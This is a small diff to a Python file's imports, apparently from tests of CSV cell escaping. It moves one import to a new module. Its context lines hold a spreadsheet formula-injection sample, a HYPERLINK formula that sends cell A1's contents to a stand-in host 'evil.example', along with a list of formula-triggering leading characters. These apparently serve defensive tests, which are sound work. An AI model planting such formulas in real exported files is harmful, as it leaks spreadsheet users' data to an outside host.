@@ -13,8 +13,8 @@ from benchmarks.harness.results import COLUMNS, Row, read_rows, row_from_csv, wr
 from benchmarks.harness.scores import read_scores, write_scores
 from db import labels, store
 from engine.csv_cells import csv_cell
-from engine.data import import_dataset
 from engine.data.export import export_mvtec
+from engine.data.importer import import_dataset
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 LIVE = ("=", "+", "-", "@", "\t", "\r")
